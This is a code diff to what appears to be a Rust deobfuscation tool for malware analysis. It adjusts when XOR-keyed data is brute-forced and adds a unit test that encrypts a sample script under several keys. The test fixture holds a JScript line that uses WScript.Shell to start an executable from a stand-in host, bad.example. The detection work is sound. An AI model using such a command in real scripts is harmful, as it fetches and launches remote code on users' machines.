@@ -15,10 +15,13 @@ const STUB: &[u8] = b"!This program cannot be run in DOS mode.";
 const STUB_AT: usize = 0x4d;
 /// Programs under a key that are taken out.
 const MAX_PROGRAMS: usize = 8;
+/// Bits per byte of a text under a short key, and of hardly anything that is packed.
+const MAX_ENTROPY: f64 = 6.2;
 /// Characters of base64 in a binary: what is shorter is a name or a key.
 const LEAST_BASE64: usize = 256;
 
-/// `inner`: what could not be read was decoded on purpose, so that a key is worth a guess.
+/// `inner`: what could not be read was decoded on purpose, so that a key is worth a guess. A sample of no format is
+/// worth one where some of its bytes are as frequent as letters are.
 pub fn find(data: &[u8], inner: bool, budget: &mut Budget) -> Vec<Found> {
     let data = data.get(..data.len().min(MAX_SEARCHED)).unwrap_or_default();
     if !budget.spend(data.len() / 64) {
@@ -27,8 +30,9 @@ pub fn find(data: &[u8], inner: bool, budget: &mut Budget) -> Vec<Found> {
     let mut found = programs(data);
     found.extend(encoded(data));
     if found.is_empty()
-        && inner
-        && score::verdict(data).is_none()
+        && (inner || module_kit::entropy(data) < MAX_ENTROPY)
+        && score::verdict(data)
+            .is_none_or(|verdict| verdict.kind == Kind::Text && verdict.confidence < blobs::LEAST_CONFIDENCE)
         && data.len() < 64 << 10
         && budget.spend(data.len() * 4)
     {
@@ -125,4 +129,22 @@ fn decoded(run: &[u8]) -> Option<Found> {
     let verdict = score::verdict(&bytes)?;
     let is_wanted = matches!(verdict.kind, Kind::File(_)) || verdict.confidence >= blobs::LEAST_CONFIDENCE;
     is_wanted.then(|| Found::part(Technique::Base64, verdict.confidence, bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::decode::cipher;
+    use crate::peel::Peeler;
+
+    #[test]
+    fn a_script_under_a_key_is_read_whatever_the_key() {
+        let script =
+            b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://bad.example/a.exe', 0);".repeat(3);
+        for key in [&b"\x01"[..], b"\x20", b"\x42", b"\x5a", b"\x7f", b"\x80", b"\xff", b"Zq", b"K3y!"] {
+            let sample = cipher::xor(&script, key);
+            let peeler = Peeler::peel(&sample, "");
+            let first = peeler.layers.first().unwrap_or_else(|| panic!("{key:?}"));
+            assert_eq!((first.found.known_key.as_deref(), &first.found.content), (Some(key), &script), "{key:?}");
+        }
+    }
 }
